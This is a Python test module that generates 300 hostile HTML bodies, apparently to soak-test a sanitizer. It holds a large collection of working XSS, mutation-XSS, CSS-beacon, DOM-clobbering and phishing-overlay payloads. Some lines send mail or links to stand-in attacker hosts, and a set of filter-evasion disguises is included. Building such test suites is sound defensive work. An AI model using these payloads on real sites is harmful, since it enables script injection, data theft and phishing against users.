"""Three hundred hostile HTML bodies: the families of `payloads`, further ones, and each in the disguises that filters fall for."""
from tests.soak.payloads import PAYLOADS

# What else calls out or runs: mutation on the second parse, foreign content, loaders few know of, CSS that reads or covers.
FURTHER = [
    "<svg></p><style><a id=\"</style><img src=1 onerror=ran(101)>\">",
    "<svg><foreignObject><iframe src='BEACON/fo'></iframe><img src=x onerror=ran(102)></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><script>ran(103)</script><img src='BEACON/ann'></annotation-xml></math>",
    "<math href='javascript:ran(104)'>click</math><math><maction actiontype='statusline#BEACON/ma' xlink:href='javascript:ran(105)'>x</maction></math>",
    "<svg><use href='BEACON/use.svg#x'/><a xlink:href='javascript:ran(106)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:ran(107)' begin=0s /><set attributeName=onmouseover to=ran(108) /></svg>",
    "<svg><feImage href='BEACON/feimage'/><filter><feImage xlink:href='BEACON/feimage2'/></filter></svg>",
    "<svg><script href='BEACON/svgscript'/><script xlink:href='data:text/javascript,ran(109)'/></svg>",
    "<svg><discard onbegin=ran(110)><animate onbegin=ran(111) attributeName=x dur=1s></svg>",
    "<svg><title><style><img src='</style><img src=x onerror=ran(112)>'></title></svg>",
    "<noembed><img title='</noembed><img src=x onerror=ran(113)>'></noembed><noframes><p id='</noframes><img src onerror=ran(114)>'></noframes>",
    "<textarea><img title='</textarea><img src=x onerror=ran(115)>'></textarea><title><img title='</title><img src=x onerror=ran(116)>'></title>",
    "<style><style/><img src=x onerror=ran(117)></style>", "<xmp><p title='</xmp><svg/onload=ran(118)>'>",
    "<plaintext><img src='BEACON/plain' onerror=ran(119)>", "<listing>&lt;img onerror=ran(120) src&gt;</listing>",
    "<table><tr><td><svg><desc><table><tbody><a id='</desc><img src=x onerror=ran(121)>'></a></table></desc></svg></td></tr></table>",
    "<p><svg><p><style><!--</style><img src=x onerror=ran(122)>--></style>", "<b><math><p></math><img src=x onerror=ran(123)></b>",
    "<form id=x></form><button form=x formaction='javascript:ran(124)'>Answer</button><input form=x formaction='BEACON/formaction' type=submit>",
    "<form action='javascript:ran(125)'><input type=submit autofocus></form><form action='BEACON/auto' id=f><input name=q value=1></form>",
    "<select><noembed></select><script>ran(126)</script>", "<select><style></select><img src=x onerror=ran(127)></style></select>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.ran(128)&gt;'></iframe><iframe src='data:text/html,<script>parent.ran(129)</script>'></iframe>",
    "<iframe src='javascript:parent.ran(130)'></iframe><iframe srcdoc='<meta http-equiv=refresh content=0;url=BEACON/srcdoc>'></iframe>",
    "<embed type='image/svg+xml' src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigxMzEpIi8+'><object data='data:text/html;base64,PHNjcmlwdD5yYW4oMTMyKTwvc2NyaXB0Pg=='></object>",
    "<applet code='x' codebase='BEACON/applet'></applet><object classid='clsid:x' codebase='BEACON/cab'><param name=src value='BEACON/param'></object>",
    "<video><source onerror=ran(133) src='BEACON/source'></video><audio src=x onerror=ran(134)></audio><video src='BEACON/v' onloadstart=ran(135)>",
    "<video controls><track kind=captions src='BEACON/vtt' default></video>", "<image src='BEACON/image' onerror=ran(136)>",
    "<img src='BEACON/one.png' loading=eager fetchpriority=high decoding=sync>", "<img src='data:image/svg+xml,<svg onload=ran(137)/>'>",
    "<img src='data:text/html,<script>ran(138)</script>'><img src='blob:BEACON/x'><img src='filesystem:BEACON/x'>",
    "<img src=\"`><script>ran(139)</script>\">", "<img src=x:alert(alt) onerror=eval(src) alt=ran(140)>", "<img/src='BEACON/slash'/onerror=ran(141)>",
    "<img\tsrc='BEACON/tab'\tonerror\t=\tran(142)>", "<img\nsrc='BEACON/newline'\nonerror=\nran(143)>", "<img \x00src='BEACON/nul' on\x00error=ran(144)>",
    "<im\x00g src='BEACON/nul2'><scr\x00ipt>ran(145)</scr\x00ipt>", "<<img src='BEACON/double'>><<script>ran(146)//<</script>",
    "<img src='BEACON/unclosed' onerror=ran(147) ", "<script>ran(148)</script", "<script/x>ran(149)</script/y>", "<script\x0c>ran(150)</script\x0c>",
    "</p><script>ran(151)</script><p>", "<scr<script>ipt>ran(152)</scr</script>ipt>", "<ScRiPt SrC='BEACON/case.js'></sCrIpT>",
    "%3Cscript%3Eran(153)%3C/script%3E&lt;script&gt;ran(154)&lt;/script&gt;", "&#60;script&#62;ran(155)&#60;/script&#62;", "\u00abscript\u00bbran(156)\u00ab/script\u00bb",
    "<a href='jav&#x09;ascript:ran(157)'>a</a><a href='java&#10;script:ran(158)'>b</a><a href='&#1;javascript:ran(159)'>c</a>",
    "<a href='javascript&colon;ran(160)'>d</a><a href='javas\tcript:ran(161)'>e</a><a href='JaVaScRiPt:ran(162)'>f</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5yYW4oMTYzKTwvc2NyaXB0Pg=='>g</a><a href='data:,x'>h</a><a href='blob:x'>i</a><a href='file:///etc/passwd'>j</a>",
    "<a href='\\\\attacker.example\\share'>k</a><a href='ms-word:ofe|u|BEACON/doc'>l</a><a href='search-ms:query=x'>m</a><a href='intent://x#Intent;end'>n</a>",
    "<a href='https://example.org/' onclick=ran(164) onmouseover=ran(165) onfocus=ran(166) autofocus tabindex=1 accesskey=r>o</a>",
    "<a href='https://example.org/' target=_parent>p</a><a href='https://example.org/' target=_self rel=opener>q</a><a href='/enquiries/?bulk=close'>r</a>",
    "<a href='BEACON/dl' download=x.exe ping='BEACON/ping2 BEACON/ping3' referrerpolicy=unsafe-url>s</a>", "<a attributionsrc='BEACON/attribution' href='#'>t</a>",
    "<p onmouseenter=ran(167) onpointerrawupdate=ran(168) style='position:fixed;inset:0'>x</p>", "<p tabindex=0 onfocusin=ran(169) autofocus>x</p>",
    "<div onanimationstart=ran(170) style='animation:x 1s'>x</div><style>@keyframes x{from{color:red}}</style>",
    "<div ontransitionrun=ran(171) style='transition:all 1s' onscroll=ran(172) onscrollend=ran(173) onwheel=ran(174)>x</div>",
    "<div oncontentvisibilityautostatechange=ran(175) style='content-visibility:auto'>x</div><div onbeforetoggle=ran(176) popover id=pp>x</div><button popovertarget=pp>y</button>",
    "<dialog open onclose=ran(177)><form method=dialog><button>Sign in again</button></form></dialog>", "<details open ontoggle=ran(178)><summary>x</summary></details>",
    "<body onload=ran(179) onpageshow=ran(180) onhashchange=ran(181) onmessage=ran(182) onresize=ran(183) onunload=ran(184)>", "<html onload=ran(185) manifest='BEACON/manifest'>",
    "<link rel=icon href='BEACON/icon'><link rel=preload as=image href='BEACON/preload'><link rel=modulepreload href='BEACON/mp'><link rel=preconnect href='BEACON'>",
    "<link rel=manifest href='BEACON/wm'><link rel=prerender href='BEACON/pr'><link rel=stylesheet href='data:text/css,@import url(BEACON/dcss)'><link rel=import href='BEACON/imp'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *; img-src *; report-uri BEACON/report\"><img src='BEACON/csp'>",
    "<meta http-equiv=set-cookie content='sid=x'><meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on>",
    "<style>*{background:url('BEACON/star')}@font-face{font-family:x;src:url(BEACON/font2)}body{font-family:x}</style>",
    "<style>body::before{content:url(BEACON/before)}li{list-style-image:url(BEACON/li)}a{cursor:url(BEACON/cur),auto}p{border-image:url(BEACON/bi)}</style><ul><li>x</ul>",
    "<style>@media(min-width:1px){p{background-image:image-set('BEACON/iset' 1x)}}@namespace url(BEACON/ns);@supports(display:grid){p{mask:url(BEACON/mask)}}</style>",
    "<style>p{background:\\75 rl('BEACON/esc')}p{b\\61 ckground:url('BEACON/esc2')}p{filter:url('BEACON/filter#x')}</style>",
    "<p style='background:/**/url(/**/BEACON/comment)'>x</p><p style='background:u\\72l(BEACON/esc3)'>x</p><p style=\"background:url&#40;'BEACON/ent'&#41;\">x</p>",
    "<p style='-moz-binding:url(BEACON/xbl#x);behavior:url(BEACON/htc);width:expression(ran(186))'>x</p>", "<p style='--x:url(BEACON/var);background:var(--x)'>x</p>",
    "<p style='position:absolute;left:0;top:0;width:9999px;height:9999px;z-index:9999;background:#fff'>Your session ended: <a href='BEACON/phish'>sign in</a></p>",
    "<div class='modal show btn btn-primary' id='queue' name='csrfmiddlewaretoken' data-hotkey='e' hx-get='BEACON/hx' hx-trigger=load>x</div>",
    "<img name=getElementById><form name=body><input name=firstChild></form><a id=defaultView name=defaultView></a><img id=cookie>",
    "<input type=hidden name=csrfmiddlewaretoken value=x form=composer><input name=to value=mallory@attacker.example form=composer>",
    "<base target=_top href='BEACON/base2/'><a href=x>x</a><img src=y>", "<frameset onload=ran(187)><frame src='javascript:ran(188)'></frameset>",
    "<custom-element onfocus=ran(189) tabindex=1 autofocus>x</custom-element><x-y is=z onclick=ran(190)>x</x-y>", "<slot onslotchange=ran(191)></slot><template shadowrootmode=open><img src='BEACON/shadow' onerror=ran(192)></template>",
    "<fencedframe src='BEACON/fenced'></fencedframe><webview src='BEACON/webview'></webview><browser src='BEACON/browser'></browser>",
    "<?php echo 1 ?><? <img src='BEACON/pi' onerror=ran(193)> ?><!ENTITY x SYSTEM 'BEACON/entity'><!DOCTYPE x [<!ENTITY e SYSTEM 'BEACON/dtd'>]>&e;",
    "<!--><img src=x onerror=ran(194)>--><!---><img src=x onerror=ran(195)>--><!-- --!><img src=x onerror=ran(196)> -->", "<!--[if gte mso 9]><xml><v:image src='BEACON/vml'/></xml><![endif]--><v:fill src='BEACON/vfill'>",
    "<![if !mso]><img src='BEACON/down' onerror=ran(197)><![endif]>", "<o:p><v:shape style='behavior:url(#default#VML)'><v:imagedata src='BEACON/vid'/></v:shape></o:p>",
    "<table><caption><svg onload=ran(198)></caption><colgroup><col background='BEACON/col'></colgroup></table>", "<thead background='BEACON/thead'><th background='BEACON/th'>x</th></thead>",
    "<a href='https://bbc.co.uk@attacker.example/'>https://bbc.co.uk/</a><a href='https://xn--bc-1jb.example/'>bbc.example</a>", "<a href='mailto:media@corvane.example?bcc=mallory@attacker.example&body=secret'>write</a>",
    "<p>\u202eevil\u202c</p><p>\u200b\u200b\u200b</p><p dir=rtl>moc.elpmaxe.rekcatta</p>", "<p title=\"&quot;><img src=x onerror=ran(199)>\">x</p>", "<p lang='\"><img src=x onerror=ran(200)>'>x</p>",
    "<td colspan='1 onmouseover=ran(201)'>x</td><ol start='1\"><img src=x onerror=ran(202)>'><li>x</ol>", "<a href='https://example.org/\"><img src=x onerror=ran(203)>'>x</a>",
    "<a href=https://example.org/?<script>ran(204)</script>>x</a>", "<blockquote cite='BEACON/cite'>x</blockquote><q cite='javascript:ran(205)'>x</q><ins cite='BEACON/ins'>x</ins>",
    "<img usemap=#m src='BEACON/usemap' ismap longdesc='BEACON/longdesc'><map name=m><area href='javascript:ran(206)' shape=default></map>", "<menu><menuitem icon='BEACON/icon2' onclick=ran(207)>x</menu>",
    "<span data-x='</span><script>ran(208)</script>'>x</span>", "<p>{{ constructor.constructor('ran(209)')() }}{% load x %}${ran(210)}</p>", "<math><mi//xlink:href='data:x,<script>ran(211)</script>'>",
    "<svg><a><rect width=99 height=99 /></a><style>@import'BEACON/svgcss'</style><image xlink:href='BEACON/xlink'/></svg>", "<svg/onload=&#114;&#97;&#110;(212)>", "<svg><![CDATA[<img src=x onerror=ran(213)>]]></svg>",
    "<div>" * 30 + "<svg><style>" + "<img src=x onerror=ran(214)>" + "</style></svg>", "<a>" * 40 + "<table><a>" + "<img src='BEACON/adopt' onerror=ran(215)>", "<font><p><table><font><img src='BEACON/foster' onerror=ran(216)>",
]

_DISGUISES = (
    lambda body: f"<table><tr><td>{body}</td></tr></table>",
    lambda body: f"<div><!--[if mso]>x<![endif]--><blockquote type=cite>{body}</blockquote></div>",
    lambda body: body.upper().replace("BEACON".upper(), "BEACON").replace("RAN(", "ran("),
    lambda body: f"<p title='{body}'>{body}</p>",
    lambda body: f"<svg><desc>{body}</desc></svg>{body}",
    lambda body: f"<math><mtext>{body}</mtext></math>",
    lambda body: body.replace("<", "<\x00").replace("='", "=\x0b'"),
    lambda body: f"<noscript>{body}</noscript><template>{body}</template>",
)


def bodies(count=300):
    """That many different bodies, the plain ones first."""
    plain = [*PAYLOADS, *FURTHER]
    disguised = (disguise(body) for disguise in _DISGUISES for body in plain)
    found = list(dict.fromkeys(plain))
    for body in disguised:
        if len(found) >= count:
            break
        if body not in found:
            found.append(body)
    return found[:count]
